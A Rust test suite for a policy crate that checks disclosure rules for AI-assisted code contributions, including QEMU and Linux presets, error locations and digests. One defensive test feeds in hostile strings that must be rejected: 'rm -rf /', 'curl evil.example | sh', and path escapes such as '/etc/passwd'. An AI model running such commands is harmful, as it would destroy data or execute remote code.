//! Policy files, presets, errors located by line and column, digests, documents.

use provgate_policy::policy::{Kind, Placement, Syntax, Tier};
use provgate_policy::{
    CheckContext, Format, Level, Overrides, Policy, PolicyErrorKind, RuleId, Stage, init_template,
    presets, render,
};

fn err(text: &str) -> provgate_policy::PolicyError {
    Policy::from_toml(text, "provgate.toml").expect_err("the policy must be rejected")
}

/// The 1-based line and column of `needle` in `text`, as an editor shows them.
fn pos(text: &str, needle: &str) -> (usize, usize) {
    let at = text.find(needle).expect("needle in text");
    let line = text[..at].matches('\n').count() + 1;
    let col = text[..at].rsplit('\n').next().unwrap().chars().count() + 1;
    (line, col)
}

#[test]
fn every_preset_loads_and_cites_its_source() {
    for name in presets::names() {
        let p = Policy::preset(name).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert!(!p.about.title.is_empty(), "{name} has a title");
        assert!(!p.about.source.is_empty(), "{name} cites a source");
        assert!(!p.about.summary.is_empty(), "{name} has a summary");
        if name != "default" {
            assert!(
                !p.about.vague.is_empty(),
                "{name} says where its source is vague"
            );
        }
        // Every rule has a level in every preset.
        for r in provgate_policy::rules::all() {
            assert!(p.rules.contains_key(&r.id()), "{name}: {}", r.name());
        }
        // Rules protecting everyone are on everywhere.
        for r in [
            RuleId::BidiControl,
            RuleId::ConfusableTrailer,
            RuleId::AiSignoff,
        ] {
            assert_eq!(p.level(r), Level::Deny, "{name}: {r}");
        }
    }
}

#[test]
fn qemu_preset_encodes_the_may_2026_proposal() {
    let p = Policy::preset("qemu").unwrap();
    let t = p.disclosure_trailer("ai-used-for").unwrap();
    assert_eq!(t.syntax, Syntax::Categories);
    assert_eq!(t.vocabulary, ["code", "tests", "docs", "research"]);
    assert_eq!(t.no_output, ["research"]);
    assert_eq!(p.disclosure.placement, Placement::BeforeSignoff);
    assert_eq!(
        p.disclosure.not_for_ai,
        ["Assisted-by", "Co-authored-by", "Generated-by"]
    );
    assert_eq!(p.limits.ai_code_lines, Some(20));
    assert!(p.limits.inclusive && !p.limits.forbid_splitting);
    assert!(p.zone("imported-headers").unwrap().exempt);
    assert_eq!(p.level(RuleId::AiSplitSeries), Level::Allow);

    let l = Policy::preset("qemu-llm-usage").unwrap();
    assert_eq!(
        l.disclosure_trailer("AI-used-for").unwrap().vocabulary,
        ["code", "tests", "docs", "analysis"]
    );
    assert_eq!(l.limits.ai_code_lines, Some(10));
    assert!(!l.limits.inclusive && l.limits.forbid_splitting);
    // Whether small patches are one split change is the maintainer's judgement: a warning.
    assert_eq!(l.level(RuleId::AiSplitSeries), Level::Warn);
    // Inherited from qemu.
    assert_eq!(l.disclosure.placement, Placement::BeforeSignoff);
    assert_ne!(l.digest(), p.digest());

    let old = Policy::preset("qemu-2025").unwrap();
    assert!(!old.ai.allowed);
    assert_eq!(old.level(RuleId::AiBanned), Level::Deny);
}

#[test]
fn default_policy_is_documented_default() {
    let d = Policy::default_policy();
    assert_eq!(d.level(RuleId::DcoMissingSignoff), Level::Deny);
    assert_eq!(d.level(RuleId::UndisclosedAi), Level::Warn);
    for key in ["AI-used-for", "Assisted-by", "Generated-by"] {
        assert!(d.disclosure_trailer(key).is_some(), "{key}");
    }
    assert!(d.disclosure.accept_ai_coauthor);
    // A file without `extends` extends the default preset.
    let p = Policy::from_toml("", "provgate.toml").unwrap();
    assert_eq!(p.digest(), d.digest());
    assert_eq!(p.extends, "default");
}

#[test]
fn layers_override_only_what_they_name() {
    let text = r#"
extends = "qemu"
mode = "warn"

[limits]
ai-code-lines = 30

[rules]
disclosure-vocabulary = "deny"

[[zone]]
name = "core"
tier = "protected"
kind = "code"
paths = ["include/qemu/", "util/*.c"]

[[zone]]
name = "imported-headers"
exempt = true
paths = ["linux-headers/"]
"#;
    let p = Policy::from_toml(text, "provgate.toml").unwrap();
    assert_eq!(p.mode, provgate_policy::Mode::Warn);
    assert_eq!(p.limits.ai_code_lines, Some(30));
    assert!(p.limits.inclusive, "inherited");
    assert_eq!(p.level(RuleId::DisclosureVocabulary), Level::Deny);
    assert_eq!(p.level(RuleId::UndisclosedAi), Level::Deny, "inherited");
    assert_eq!(
        p.zone_defs.len(),
        2,
        "the preset's zone was replaced by name, the new one added"
    );
    assert_eq!(
        p.zone("imported-headers").unwrap().paths,
        ["linux-headers/"]
    );
    let core = p.zone("core").unwrap();
    assert_eq!((core.tier, core.kind), (Tier::Protected, Some(Kind::Code)));
    assert_eq!(p.zone_defs[0].name, "imported-headers", "replaced in place");
}

#[test]
fn digest_is_stable_and_to_toml_round_trips() {
    for name in presets::names() {
        let p = Policy::preset(name).unwrap();
        assert_eq!(p.digest(), Policy::preset(name).unwrap().digest());
        assert!(p.digest().starts_with("sha256:") && p.digest().len() == 7 + 64);
        let shown = p.to_toml();
        let again = Policy::from_toml(&shown, "shown.toml")
            .unwrap_or_else(|e| panic!("{name}: {e}\n{shown}"));
        assert_eq!(again.digest(), p.digest(), "{name}");
    }
    let with_exception = r#"
extends = "qemu"
[[exception]]
reason = "agreed on qemu-devel"
paths = ["migration/"]
expires = "2026-12-31"
[trial]
contributors = ["jane@example.org"]
start = "2026-06-01"
"#;
    let p = Policy::from_toml(with_exception, "provgate.toml").unwrap();
    let again = Policy::from_toml(&p.to_toml(), "shown.toml").unwrap();
    assert_eq!(again.digest(), p.digest());
    // Formatting and comments do not change the digest; settings do.
    let reformatted = format!(
        "# comment\n{}",
        with_exception.replace("\n[trial]", "\n\n[trial]")
    );
    assert_eq!(
        Policy::from_toml(&reformatted, "x").unwrap().digest(),
        p.digest()
    );
    // Rules at `allow` enforce nothing and are not part of the digest; other levels are.
    let off = format!("{with_exception}[rules]\nai-coauthor-forbidden = \"allow\"\n");
    assert_eq!(Policy::from_toml(&off, "x").unwrap().digest(), p.digest());
    let on = format!("{with_exception}[rules]\nai-coauthor-forbidden = \"warn\"\n");
    assert_ne!(Policy::from_toml(&on, "x").unwrap().digest(), p.digest());
    let changed = with_exception.replace("2026-12-31", "2026-12-30");
    assert_ne!(
        Policy::from_toml(&changed, "x").unwrap().digest(),
        p.digest()
    );
}

#[test]
fn init_template_loads_as_the_preset() {
    for name in presets::names() {
        let t = init_template(name).unwrap();
        let p =
            Policy::from_toml(&t, "provgate.toml").unwrap_or_else(|e| panic!("{name}: {e}\n{t}"));
        assert_eq!(p.digest(), Policy::preset(name).unwrap().digest(), "{name}");
        assert!(t.contains("[[exception]]") && t.contains("[[zone]]"));
    }
    assert_eq!(
        init_template("qemu-2024").unwrap_err().kind,
        PolicyErrorKind::UnknownPreset("qemu-2024".into())
    );
}

#[test]
fn render_qemu_reads_as_the_proposal() {
    let p = Policy::preset("qemu").unwrap();
    let md = render(&p, Format::Markdown);
    for needle in [
        "# QEMU: AI-assisted contributions (May 2026 proposal, not merged)",
        "20 lines of code or fewer, not counting tests",
        "AI-assisted tests and documentation (including code comments) are not limited",
        "`AI-used-for:` one or more of `code`, `tests`, `docs`, `research`",
        "placed before the author's `Signed-off-by`",
        "`Assisted-by`, `Co-authored-by`, `Generated-by` are not used for AI",
        "core code that other things depend on",
        "a regression test must fail without the fix and pass with it",
        "Where the source is vague",
        "`Acked-by` from a maintainer of the affected area",
        "`linux-headers/`",
    ] {
        assert!(md.contains(needle), "missing {needle:?} in\n{md}");
    }
    let rst = render(&p, Format::Rst);
    assert!(rst.contains("``AI-used-for:``"));
    assert!(rst.contains(".. list-table::"));
    assert!(rst.starts_with("====="));
    let ban = render(&Policy::preset("qemu-2025").unwrap(), Format::Markdown);
    assert!(ban.contains("are declined"));
    // Rules with nothing to check under the policy are not listed.
    assert!(!ban.contains("| `ai-line-limit` |") && !ban.contains("| `protected-zone` |"));
    assert!(md.contains("| `ai-line-limit` |") && !md.contains("| `ai-split-series` |"));
}

#[test]
fn overrides_relevel_and_reject_unknown_names() {
    let mut p = Policy::preset("qemu").unwrap();
    let o = Overrides::parse(
        &["undisclosed-ai".into()],
        &["ai-line-limit".into()],
        &["stale-waiver".into()],
    )
    .unwrap();
    assert_eq!(p.effective_level(RuleId::UndisclosedAi, &o), Level::Allow);
    p.apply_overrides(&o).unwrap();
    assert_eq!(p.level(RuleId::AiLineLimit), Level::Warn);
    assert_eq!(p.level(RuleId::StaleWaiver), Level::Deny);
    assert_eq!(
        Overrides::parse(&[], &[], &["no-such-rule".into()])
            .unwrap_err()
            .kind,
        PolicyErrorKind::UnknownRule("no-such-rule".into())
    );
}

// ---- errors, each at its line and column -------------------------------------------------------

#[test]
fn unknown_preset_is_located() {
    let text = "mode = \"warn\"\nextends = \"qemu-2024\"\n";
    let e = err(text);
    assert_eq!(e.kind, PolicyErrorKind::UnknownPreset("qemu-2024".into()));
    assert_eq!((e.line, e.column), pos(text, "\"qemu-2024\""));
    assert!(e.hint.contains("qemu-2025"), "{}", e.hint);
    assert_eq!(
        Policy::preset("nope").unwrap_err().kind,
        PolicyErrorKind::UnknownPreset("nope".into())
    );
}

#[test]
fn unknown_rule_name_is_located_with_suggestion() {
    let text = "[rules]\nbidi-control = \"deny\"\nundisclosed-aj = \"warn\"\n";
    let e = err(text);
    assert_eq!(
        e.kind,
        PolicyErrorKind::UnknownRule("undisclosed-aj".into())
    );
    assert_eq!((e.line, e.column), (3, 1));
    assert!(e.hint.contains("undisclosed-ai"));
    let text = "[[exception]]\nreason = \"x\"\npaths = [\"a/\"]\nrules = [\"protected-zon\"]\n";
    let e = err(text);
    assert_eq!((e.line, e.column), pos(text, "\"protected-zon\""));
}

#[test]
fn bad_level_and_unknown_key_are_located() {
    let text = "[rules]\nbidi-control = \"forbid\"\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::Syntax(_)));
    assert_eq!((e.line, e.column), pos(text, "\"forbid\""));
    let text = "[limits]\nai-code-lines = 20\nai-code-line = 3\n";
    let e = err(text);
    assert_eq!(e.line, 3, "{e}");
    assert!(e.to_string().contains("ai-code-line"), "{e}");
    let text = "mode = \"enforce\"\n[disclosure\n";
    let e = err(text);
    assert_eq!(e.line, 2, "{e}");
}

#[test]
fn negative_limit_is_rejected() {
    let text = "[limits]\nai-code-lines = -1\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::BadValue(_)));
    assert_eq!((e.line, e.column), (2, 17));
    assert_eq!(e.snippet, "-1");
}

#[test]
fn zone_both_protected_and_exempt_is_a_contradiction() {
    let text =
        "[[zone]]\nname = \"core\"\ntier = \"protected\"\nexempt = true\npaths = [\"util/\"]\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::Contradiction(_)), "{e}");
    assert_eq!((e.line, e.column), (4, 10));
    // Also when a file makes a preset's exempt zone protected: the zone is replaced whole, so
    // `exempt` must be restated, and a restated exempt + protected is the same contradiction.
    let text = "extends = \"qemu\"\n[[zone]]\nname = \"imported-headers\"\ntier = \"protected\"\nexempt = true\npaths = [\"linux-headers/\"]\n";
    assert!(matches!(err(text).kind, PolicyErrorKind::Contradiction(_)));
}

#[test]
fn trial_ending_before_it_starts_is_a_contradiction() {
    let text = "[trial]\nstart = \"2026-06-01\"\nend = \"2026-05-31\"\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::Contradiction(_)));
    assert_eq!((e.line, e.column), pos(text, "\"2026-05-31\""));
    let text = "[trial]\nstart = \"2026-13-01\"\n";
    let e = err(text);
    assert_eq!(e.kind, PolicyErrorKind::BadDate("2026-13-01".into()));
    assert_eq!((e.line, e.column), (2, 9));
}

#[test]
fn bad_glob_and_regex_are_located() {
    let text = "[[zone]]\nname = \"core\"\npaths = [\"util/\", \"hw/[arm\"]\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::BadGlob(_)), "{e}");
    assert_eq!((e.line, e.column), pos(text, "\"hw/[arm\""));
    let text = "[[fingerprint]]\ntool = \"internal bot\"\nfield = \"message-line\"\npattern = \"^Generated by (bot\"\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::BadRegex(_)), "{e}");
    assert_eq!((e.line, e.column), pos(text, "\"^Generated"));
}

#[test]
fn oversized_regex_is_rejected() {
    let text =
        "[[fingerprint]]\ntool = \"t\"\nfield = \"subject\"\npattern = \"(\\\\w{1000}){1000}\"\n";
    let e = err(text);
    assert!(matches!(e.kind, PolicyErrorKind::BadRegex(_)), "{e}");
    assert_eq!(e.line, 4);
}

#[test]
fn exceptions_need_reason_and_scope() {
    let text = "[[exception]]\nreason = \"  \"\npaths = [\"a/\"]\n";
    let e = err(text);
    assert!(e.to_string().contains("needs a reason"), "{e}");
    assert_eq!(e.line, 2);
    let text = "[[exception]]\nreason = \"agreed\"\nrules = [\"protected-zone\"]\n";
    let e = err(text);
    assert!(e.to_string().contains("needs a scope"), "{e}");
    assert_eq!(e.line, 1, "{e}");
    let text = "[[exception]]\nreason = \"agreed\"\ncommits = [\"abc\"]\n";
    let e = err(text);
    assert_eq!((e.line, e.column), (3, 12));
}

#[test]
fn maintainers_file_cannot_leave_the_repository() {
    for bad in ["/etc/passwd", "../MAINTAINERS", "docs/../../x"] {
        let text = format!("[zones]\nmaintainers-file = \"{bad}\"\n");
        let e = err(&text);
        assert_eq!((e.line, e.column), (2, 20), "{bad}");
    }
    let ok = Policy::from_toml("[zones]\nmaintainers-file = \"docs/MAINTAINERS\"\n", "x").unwrap();
    assert_eq!(ok.zones.maintainers_file, "docs/MAINTAINERS");
}

#[test]
fn vocabulary_contradiction_and_duplicate_trailer() {
    let text = "[[disclosure.trailer]]\nkey = \"AI-used-for\"\nsyntax = \"categories\"\nenforce-vocabulary = true\n";
    assert!(matches!(err(text).kind, PolicyErrorKind::Contradiction(_)));
    let text = "[[disclosure.trailer]]\nkey = \"Assisted-by\"\n[[disclosure.trailer]]\nkey = \"assisted-by\"\n";
    let e = err(text);
    assert_eq!((e.line, e.column), (4, 7));
    let text = "[review]\ntrailers = [\"Reviewed-by:\"]\n";
    let e = err(text);
    assert_eq!((e.line, e.column), (2, 13));
}

#[test]
fn code_settings_layer_and_are_validated() {
    let base = Policy::preset("default").unwrap();
    assert_eq!(
        base.code.insecure_calls,
        ["gets", "strcpy", "strcat", "sprintf", "vsprintf"]
    );
    assert!(base.code.prefer.is_empty() && !base.code.system_headers);
    let qemu = Policy::preset("qemu").unwrap();
    assert!(qemu.code.prefer.iter().any(|p| p.avoid == "malloc"));
    assert!(qemu.limits.mechanical_exempt);
    assert!(
        !Policy::preset("qemu-llm-usage")
            .unwrap()
            .limits
            .mechanical_exempt
    );
    let p = Policy::from_toml(
        "extends = \"qemu\"\n[code]\ninsecure-calls = [\"strcpy\", \"alloca\"]\npython-insecure-calls = [\"yaml.load\"]\nknown-symbols = [\"gen_helper_add\"]\nsystem-headers = true\n",
        "provgate.toml",
    )
    .unwrap();
    assert_eq!(p.code.insecure_calls, ["strcpy", "alloca"]);
    assert_eq!(p.code.python_insecure_calls, ["yaml.load"]);
    assert!(p.code.system_headers);
    // Inherited lists stay unless named.
    assert_eq!(p.code.prefer, qemu.code.prefer);
    for bad in [
        "[code]\ninsecure-calls = [\"strcpy()\"]\n",
        "[code]\ninsecure-calls = [\"pickle.loads\"]\n",
        "[code]\npython-insecure-calls = [\"os.\"]\n",
        "[[code.prefer]]\navoid = \"1malloc\"\ninstead = \"x\"\n",
        "[code]\nsystem-header-dirs = [\"/etc\"]\n",
    ] {
        let e = err(bad);
        assert!(
            matches!(
                e.kind,
                PolicyErrorKind::BadValue(_) | PolicyErrorKind::Syntax(_)
            ),
            "{bad}: {e}"
        );
    }
}

#[test]
fn missing_file_is_an_io_error() {
    let e = Policy::from_file(std::path::Path::new("/nonexistent/provgate.toml")).unwrap_err();
    assert!(matches!(e.kind, PolicyErrorKind::Io(_)));
    assert_eq!(e.line, 0);
}

#[test]
fn errors_display_location_snippet_and_hint() {
    let e = err("[limits]\nai-code-lines = -5\n");
    let s = e.to_string();
    assert!(s.starts_with("provgate.toml:2:17: "), "{s}");
    assert!(s.contains("hint: "), "{s}");
}

/// Asserts that `docs/{folder}` holds exactly the generated `pages`, byte for byte.
#[track_caller]
fn assert_generated_docs(folder: &str, pages: &[(String, String)], example: &str) {
    let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../docs")
        .join(folder);
    let regenerate = format!(
        "run `cargo run -p provgate-policy --example {example}` to regenerate docs/{folder}"
    );
    for (name, text) in pages {
        let on_disk = std::fs::read_to_string(dir.join(name)).unwrap_or_default();
        assert!(
            on_disk == *text,
            "docs/{folder}/{name} is out of date: {regenerate}"
        );
    }
    let count = std::fs::read_dir(&dir)
        .map(|d| {
            d.filter_map(Result::ok)
                .filter(|e| e.path().extension().is_some_and(|x| x == "md"))
                .count()
        })
        .unwrap_or(0);
    assert_eq!(
        count,
        pages.len(),
        "docs/{folder} has pages of unknown entries: {regenerate}"
    );
}

#[test]
fn rule_docs_are_up_to_date() {
    assert_generated_docs(
        "rules",
        &provgate_policy::render::rule_pages(),
        "gen-rule-docs",
    );
}

#[test]
fn every_rule_is_documented_and_explained() {
    let mut names = std::collections::HashSet::new();
    for r in provgate_policy::rules::all() {
        let d = provgate_policy::explain(r.name()).unwrap();
        assert_eq!(d.id, r.id());
        assert!(names.insert(r.name()), "duplicate rule name {}", r.name());
        assert!(
            r.name().chars().all(|c| c.is_ascii_lowercase() || c == '-'),
            "{} is kebab-case",
            r.name()
        );
        for (what, text) in [
            ("summary", d.summary),
            ("what", d.what),
            ("why", d.why),
            ("policy", d.policy),
            ("failing", d.failing),
            ("passing", d.passing),
            ("fix", d.fix),
        ] {
            assert!(text.trim().len() > 10, "{}: {what} is empty", r.name());
        }
    }
    assert!(provgate_policy::explain("no-such-rule").is_none());
    assert!(names.len() >= 23);
}

#[test]
fn docs_policy_example_loads() {
    let path = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../docs/policy.md");
    let doc = std::fs::read_to_string(path).unwrap();
    let start = doc
        .rfind("```toml\n")
        .expect("docs/policy.md ends with an example")
        + 8;
    let end = start + doc[start..].find("```").unwrap();
    let p = Policy::from_toml(&doc[start..end], "docs/policy.md").unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(p.zone("core").unwrap().tier, Tier::Protected);
    assert_eq!(p.exceptions.len(), 1);
    // Every top-level table of the file format is documented.
    for table in [
        "[about]",
        "[ai]",
        "[disclosure]",
        "[[disclosure.trailer]]",
        "[limits]",
        "[dco]",
        "[review]",
        "[agreement]",
        "[trial]",
        "[files]",
        "[code]",
        "[[code.prefer]]",
        "[zones]",
        "[[zone]]",
        "[[exception]]",
        "[[fingerprint]]",
        "[rules]",
    ] {
        assert!(doc.contains(table), "docs/policy.md documents {table}");
    }
}

#[test]
fn no_setting_can_run_a_command() {
    // The file may come from an untrusted branch: there is no key that names a program, and
    // unknown keys are errors rather than silently ignored.
    for text in [
        "[hooks]\ncommand = \"rm -rf /\"\n",
        "command = \"curl evil.example | sh\"\n",
        "[zones]\nmaintainers-command = \"get_maintainer.pl\"\n",
        "[[fingerprint]]\ntool = \"t\"\nfield = \"subject\"\npattern = \"x\"\nexec = \"sh\"\n",
    ] {
        let e = err(text);
        assert!(matches!(e.kind, PolicyErrorKind::Syntax(_)), "{text}: {e}");
    }
    // Every key of the resolved policy is a data setting.
    fn keys(v: &toml::Value, out: &mut Vec<String>) {
        match v {
            toml::Value::Table(t) => {
                for (k, v) in t {
                    out.push(k.clone());
                    keys(v, out);
                }
            }
            toml::Value::Array(a) => a.iter().for_each(|v| keys(v, out)),
            _ => {}
        }
    }
    let shown: toml::Value =
        toml::from_str(&Policy::preset("qemu").unwrap().canonical_toml()).unwrap();
    let mut all = Vec::new();
    keys(&shown, &mut all);
    for word in ["command", "exec", "script", "hook", "run", "program", "url"] {
        assert!(
            !all.iter().any(|k| k.split('-').any(|s| s == word)),
            "a `{word}` key in {all:?}"
        );
    }
}

#[test]
fn preset_docs_are_up_to_date() {
    let pages = provgate_policy::render::preset_pages();
    assert_eq!(
        pages.len(),
        provgate_policy::presets::names().len() + 1,
        "a page per preset and the index"
    );
    assert_generated_docs("presets", &pages, "gen-preset-docs");
}

/// The principle every preset follows: a rule denies only what a "must" sentence of the source
/// asks for, or what the preset adds with a reason; "should" and vague sentences are enforced by
/// warnings at most.
#[test]
fn presets_deny_only_what_their_source_requires() {
    use provgate_policy::policy::Strength;
    for name in provgate_policy::presets::names() {
        let p = Policy::preset(name).unwrap();
        let about = &p.about;
        assert!(about.status.is_some(), "{name} states its status");
        assert!(!about.clauses.is_empty(), "{name} quotes its source");
        let must: Vec<&RuleId> = about
            .clauses
            .iter()
            .filter(|c| c.strength == Strength::Must)
            .flat_map(|c| c.rules.iter())
            .collect();
        let added: Vec<&RuleId> = about
            .additions
            .iter()
            .flat_map(|a| a.rules.iter())
            .collect();
        for r in provgate_policy::rules::all() {
            if !r.applies(&p) || p.level(r.id()) == Level::Allow {
                continue;
            }
            let named = must.iter().any(|m| **m == r.id()) || added.iter().any(|a| **a == r.id());
            let in_soft = about
                .clauses
                .iter()
                .filter(|c| c.strength != Strength::Must)
                .any(|c| c.rules.contains(&r.id()));
            assert!(
                named || in_soft,
                "{name}: `{}` runs at {} but no sentence of the source or addition names it",
                r.name(),
                p.level(r.id())
            );
            if p.level(r.id()) == Level::Deny {
                assert!(
                    named,
                    "{name}: `{}` denies, but only a \"should\" or vague sentence asks for it",
                    r.name()
                );
            }
        }
    }
}

#[test]
fn clauses_are_validated() {
    let e = err(
        "[[about.clause]]\nparaphrase = \"x\"\nsource = \"s\"\ndate = \"2026\"\nstrength = \"must\"\nrules = [\"no-such-rule\"]\n",
    );
    assert!(matches!(e.kind, PolicyErrorKind::UnknownRule(_)), "{e}");
    let e = err(
        "[[about.clause]]\nquote = \"x\"\nparaphrase = \"y\"\nsource = \"s\"\ndate = \"2026\"\nstrength = \"must\"\nrules = [\"ai-signoff\"]\n",
    );
    assert!(e.to_string().contains("either `quote`"), "{e}");
    let e = err(
        "[[about.clause]]\nquote = \"x\"\nsource = \"s\"\ndate = \"2026\"\nstrength = \"should\"\n",
    );
    assert!(e.to_string().contains("unchecked"), "{e}");
    let e = err("[[about.addition]]\nrules = [\"ai-signoff\"]\nreason = \"\"\n");
    assert!(e.to_string().contains("reason"), "{e}");
    let e = err("[about.status]\nstate = \"rumoured\"\n");
    assert!(e.to_string().contains("unknown variant"), "{e}");
}

#[test]
fn presets_carry_their_status_into_render_and_report() {
    use provgate_policy::SourceState;
    let state = |n: &str| Policy::preset(n).unwrap().about.status.unwrap().state;
    assert_eq!(state("qemu"), SourceState::Proposed);
    assert_eq!(state("qemu-llm-usage"), SourceState::Proposed);
    assert_eq!(state("qemu-2025"), SourceState::InForce);
    assert_eq!(state("linux"), SourceState::InForce);
    let qemu = Policy::preset("qemu").unwrap();
    let doc = qemu.render(Format::Markdown);
    assert!(doc.contains("Status: proposed (2026-05-29"), "{doc}");
    assert!(doc.contains("not merged"), "{doc}");
    let ctx = CheckContext::new(
        None,
        Stage::Submit,
        jiff::civil::date(2026, 6, 1),
        Overrides::default(),
    )
    .unwrap();
    let r = provgate_policy::check(&qemu, &ctx, &[]);
    assert_eq!(
        r.policy.status.map(|s| s.state),
        Some(SourceState::Proposed)
    );
    // The linux render publishes the current attribution form.
    let linux = Policy::preset("linux").unwrap().render(Format::Markdown);
    assert!(
        linux.contains("`Assisted-by: LLM [TOOL1] [TOOL2]`"),
        "{linux}"
    );
}

#[test]
fn no_preset_states_a_review_rule_its_source_lacks() {
    for name in provgate_policy::presets::names() {
        let doc = Policy::preset(name).unwrap().render(Format::Markdown);
        assert!(
            !doc.contains("## Review"),
            "{name} renders a second-reviewer rule that no source contains"
        );
    }
}
